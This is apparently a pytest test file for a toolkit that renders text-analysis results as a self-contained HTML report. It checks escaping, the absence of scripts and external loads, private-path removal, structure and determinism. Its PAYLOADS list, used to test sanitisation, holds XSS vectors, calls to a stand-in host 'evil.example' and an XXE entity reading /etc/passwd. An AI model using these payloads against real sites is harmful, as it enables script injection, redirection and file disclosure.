"""The report: one page that says, shows and proves, and that nothing in a text can break."""

import os
import re
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import polars as pl
import pytest

from toolkit.change.base import DriftSeries, NeighbourTable
from toolkit.errors import OptionError, ProvenanceError
from toolkit.provenance import Provenance
from toolkit.reports.report import report

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "javascript:alert(1)",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "}</style><style>*{background:url(//evil.example)}",
    "x;background:url(//evil.example/a)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<form action=//evil.example><input name=q>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<details open ontoggle=alert(1)>",
    "</summary></details></main>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "{{ 7 * 7 }}{% raw %}",
    "<mark>not a match</mark>",
    "\x00<\x00script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "+ADw-script+AD4-alert(1)",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
)


class Page(HTMLParser):
    """Counts elements, collects ids, links, attributes and text."""

    VOID = {"meta", "br", "img", "hr", "input", "link"}

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements, self.attributes, self.open = Counter(), [], []
        self.text, self.headings = [], []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        """Note an element."""
        self.elements[tag] += 1
        self.attributes += [(tag, *pair) for pair in attrs]
        if re.fullmatch("h[1-6]", tag):
            self.headings.append(int(tag[1]))
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        """Note an element that closes itself."""
        self.handle_starttag(tag, attrs)
        if tag not in self.VOID:
            self.open.pop()

    def handle_endtag(self, tag):
        """See that elements close in order."""
        assert self.open.pop() == tag

    def handle_data(self, data):
        """Collect text."""
        self.text.append(data)

    def values(self, name):
        """List the values of one attribute."""
        return [value for _, key, value in self.attributes if key == name]


class Corpus:
    """What a page asks of a corpus."""

    hash = "ab" * 32

    def __init__(self, said="columns guessed: text, date"):
        self.documents = pl.DataFrame()
        self.skipped = pl.DataFrame({"source": [f"{Path.home()}/{said}"], "reason": [said]})
        self.notes = (said, f"read from {Path.home()}/texts/speeches.csv")

    def describe(self, by=None):
        """Count."""
        return pl.DataFrame([{"documents": 245, "tokens": 2_000_000, "undated": 3}])

    def check(self, *, deep=False):
        """Doubt."""
        return ["3 documents are undated"]


@pytest.fixture(scope="module")
def results(made):
    """One of each kind for one concept, a drift for another, and one without hits."""
    first = [made.drift_series(), made.frequency_series(), made.neighbour_table()]
    return [*first, made.drift_series("terror"), made.empty_series()]


@pytest.fixture(scope="module")
def html(results):
    """Make the page of these results."""
    return report(results, question="When did it move?", corpus=Corpus()).html


def poisoned(made, text):
    """Make a page in which every string that comes from a reader's data is `text`."""
    series = made.drift_series(text, n=4)
    evidence = made.evidence(series.table, text, author=text, title=text, text=text)
    evidence = evidence.with_columns(id=pl.lit(text), date=pl.lit(text), right=pl.lit(text))
    controls = series.controls.with_columns(control=pl.lit(text))
    drift = DriftSeries(
        text, "cosine", "ppmi", series.table, (text,), evidence, controls,
        provenance=Provenance("ab" * 32, {text: text}, 7, {"python": text}),
    )  # fmt: skip
    near = made.neighbour_table(text, n=2, depth=3)
    words = near.table.with_columns(
        pl.when(pl.col("neighbour").is_not_null()).then(pl.lit(text)).alias("neighbour")
    )
    mixed = [drift, made.frequency_series(text, n=4), NeighbourTable(text, words)]
    named = report(mixed, question=text, title=text, corpus=Corpus(text), events=[(text, 1972)])
    return named.html


@pytest.fixture(scope="module")
def benign(made):
    """Make the same page with a harmless word."""
    return Page(poisoned(made, "an ordinary phrase of words"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_adds_an_element_or_an_event_handler(made, benign, payload):
    """Whatever the texts hold, the elements of the page are those of a harmless twin."""
    page = Page(poisoned(made, payload))
    assert page.elements == benign.elements
    assert page.open == []
    assert {key for _, key, _ in page.attributes} == {key for _, key, _ in benign.attributes}
    assert not [key for _, key, _ in page.attributes if key.startswith("on")]
    assert "script" not in page.elements


def test_a_page_holds_no_script_and_loads_nothing(html):
    """No script element, a policy that forbids any, links only inside and to data."""
    page = Page(html)
    assert "<script" not in html.lower()
    policy = "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
    assert ("meta", "content", policy) in page.attributes
    addresses = page.values("href") + page.values("src") + page.values("xlink:href")
    assert addresses
    assert all(one.startswith(("#", "data:text/csv")) for one in addresses)
    assert not re.search(r"url\((?!#)|@import|https?://", html)


def test_every_link_leads_somewhere_and_ids_are_unique(html):
    """Each address in the page is the id of one element; no id stands twice."""
    page = Page(html)
    ids = Counter(page.values("id"))
    assert [name for name, n in ids.items() if n > 1] == []
    inside = {one[1:] for one in page.values("href") if one.startswith("#")}
    assert inside <= set(ids)
    assert set(page.values("aria-labelledby")) <= set(ids)
    clips = set(re.findall(r"url\(#([^)]+)\)", html))
    assert clips <= set(ids)


def test_each_point_leads_to_the_passages_of_its_slice(made, results, html):
    """The figure of a concept links each judged slice to a place that names its passages."""
    anchors = re.findall(r'<a[^>]*href="(#passages-[^"]+)"', html)
    judged = made.drift_series().table.drop_nulls("value")["slice"].to_list()
    assert [re.search(r"\d{4}s", one).group() for one in anchors] == judged * 2
    assert len(set(anchors)) == len(anchors)
    place = html.index(f'id="{anchors[0][1:]}"')
    assert "doc-1970s-0" in html[place : place + 800]


def test_the_answer_comes_first_and_nothing_is_left_out(results, html):
    """Sentences, doubts, captions, controls, provenance: all that the results say is there."""
    text = " ".join(" ".join(Page(html).text).split())
    for one in results:
        for said in (*one.answer(), *one.doubts):
            assert " ".join(said.split()) in text
    for part in ("When did it move?", "Grey blocks", "word7 ", "seed 7", "Green, Breanna",
                 "documents 245", "5 of 7", "at most 5 of each kind"):  # fmt: skip
        assert part in text
    assert text.index("held still") < text.index("Grey blocks")


def test_passages_are_capped_and_the_rest_is_counted(made):
    """Five of each kind and slice are shown, the strongest first; seven are said to exist."""
    page = report([made.drift_series()]).html
    shown = re.findall(r"doc-2020s-(\d)", page)
    assert shown == ["0", "1", "2", "3", "4"] * 2
    assert page.count("<mark>") == 5 * 2 * 5


def test_headings_descend_in_order(html):
    """One h1; no level is skipped; one main, a header, a nav and a footer."""
    page = Page(html)
    assert page.headings[0] == 1
    assert page.headings.count(1) == 1
    assert all(b - a <= 1 for a, b in zip(page.headings, page.headings[1:], strict=False))
    assert all(page.elements[name] == 1 for name in ("header", "nav", "main", "footer"))
    assert page.elements["caption"] == page.elements["table"]
    # Five results, and the two concepts with a drift beside each other.
    assert page.elements["figcaption"] == page.elements["figure"] == 5 + 1


def test_the_same_results_give_the_same_bytes(results, html, tmp_path):
    """Two pages of one study are equal, and so is the file."""
    again = report(results, question="When did it move?", corpus=Corpus())
    assert again.html == html
    path = again.save(tmp_path / "deep" / "report.html")
    assert path.read_bytes() == html.encode()
    assert [one.name for one in path.parent.iterdir()] == ["report.html"]


def test_no_path_of_this_machine_is_on_the_page(html):
    """Of a file only its name is left."""
    assert str(Path.home()) + "/" not in html
    assert str(Path.cwd()) not in html
    assert "read from speeches.csv" in html


def test_neither_user_nor_machine_is_named_on_the_page(results, monkeypatch):
    """Whatever could be asked for them answers with a name that then stands nowhere."""
    for name in ("USER", "LOGNAME", "HOSTNAME"):
        monkeypatch.setenv(name, "canary")
    for where in ("socket.gethostname", "socket.getfqdn", "platform.node", "getpass.getuser"):
        monkeypatch.setattr(where, lambda *_: "canary")
    monkeypatch.setattr("os.uname", lambda: os.uname_result(["canary"] * 5))
    page = report(results, question="When did it move?", corpus=Corpus())
    assert "canary" not in page.html
    assert "canary" not in str(results[0].provenance)


def test_a_page_of_three_concepts_and_all_decades_stays_small(made):
    """Three concepts over 24 decades with 99 control words stay below three megabytes."""
    results = [made.drift_series(name, first=1790, n=24) for name in ("a", "b", "c")]
    assert len(report(results).html.encode()) < 3_000_000


def test_downloads_hold_the_whole_table(made):
    """The table of a figure can be taken away as CSV, rows and columns complete."""
    import base64

    series = made.drift_series()
    page = Page(report([series]).html)
    packed = next(one for one in page.values("href") if one.startswith("data:"))
    table = base64.b64decode(packed.partition("base64,")[2]).decode("utf-8-sig")
    assert table.splitlines()[0] == ",".join(series.table.columns)
    assert len(table.splitlines()) == 1 + len(series.table)


def test_nothing_to_report_is_refused(made):
    """No results, a stranger among them, or results of two corpora stop at once."""
    with pytest.raises(OptionError, match="no results"):
        report([])
    with pytest.raises(OptionError, match="int has no place"):
        report([3])
    other = made.drift_series()
    strange = DriftSeries("x", "cosine", "ppmi", other.table, provenance=Provenance("cd" * 32, {}))
    with pytest.raises(ProvenanceError, match="different corpora"):
        report([other, strange])


def test_a_notebook_shows_a_result_by_itself(results):
    """Each result renders as a fragment with figure, caption and answer, and escapes its texts."""
    for one in results:
        shown = Page(one._repr_html_())
        assert shown.elements["svg"] == 1
        assert one.answer()[0] in " ".join(shown.text)
        assert shown.open == []
